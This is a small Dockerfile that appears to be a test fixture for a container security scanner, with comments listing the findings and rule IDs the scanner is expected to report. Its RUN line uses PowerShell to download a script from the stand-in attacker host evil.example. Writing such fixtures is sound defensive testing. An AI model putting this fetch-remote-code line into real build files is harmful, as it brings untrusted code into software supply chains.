FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN pwsh -Command iwr https://evil.example/i.ps1 -OutFile i.ps1
USER app
# expect: download 2 high "pwsh inline code fetches https://evil.example/i.ps1"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-b5954b974a VR501-e064bac1a6
